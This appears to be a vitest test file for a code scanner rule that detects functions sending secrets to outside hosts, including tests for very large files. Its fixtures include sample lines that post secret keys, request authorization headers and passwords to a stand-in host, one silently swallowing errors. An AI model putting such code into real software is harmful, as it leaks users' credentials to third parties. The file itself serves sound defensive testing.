import { describe, expect, it } from 'vitest';
import { kindsIn, lookAt, ofKind } from './given.ts';
import { testTable } from './table.ts';

const elsewhere = "'https://rpc.a.example/q'";
const takesKey = `exports.from = function (secretKey) { fetch(${elsewhere}, { body: secretKey }); };`;
const taken = `const held = req.headers.authorization; next(); fetch(${elsewhere}, { body: held }).catch(() => {});`;

testTable({
  'sends-keys': {
    hits: [
      ['a key that a caller hands in', takesKey, 'secretKey'],
      ['what others log in with', taken, 'what others log in with'],
      [
        'a password, and nobody waits for an answer',
        `function login(user, password) { fetch(${elsewhere}, { body: password }); }`,
        'password',
      ],
    ],
    misses: [
      [
        'a password, and somebody waits',
        `async function login(user, password) { return await fetch(${elsewhere}, { body: password }); }`,
      ],
      ['a key for a host that is told', 'function sign(secretKey) { fetch(address, { body: secretKey }); }'],
      ['a key that stays', `function sign(secretKey) { fetch(${elsewhere}); return make(secretKey); }`],
    ],
  },
});

it('a function behind hundreds of others is looked at too', () => {
  const others = 'function f(secretKey) { return make(secretKey); }\n'.repeat(300);
  expect(kindsIn(`${others}${takesKey}`)).toContain('sends-keys');
});

describe('in a file that is too large to be looked at as a whole', () => {
  const pad = 'function f(a, b) { return a.slice(b); }\n'.repeat(3_500);

  it.each([takesKey, taken])('the same is seen: %s', (code) => {
    expect(ofKind(`${pad}${code}\n${pad}`, 'sends-keys').map(({ line }) => line)).toEqual([3_501]);
  });

  it('what somebody else is handed is not', () => {
    const apart = `function sign(secretKey) { return make(secretKey); }\n${pad}fetch(${elsewhere}, { body });`;
    expect(kindsIn(apart)).not.toContain('sends-keys');
  });

  it('that there is more than is looked at is told', () => {
    const many = (count: number) =>
      `function f(secretKey) { fetch(${elsewhere}) }${' '.repeat(400)}`.repeat(count);
    expect(lookAt(many(400)).more).toBeUndefined();
    expect(lookAt(many(4_000)).more).toBe(true);
  });
});
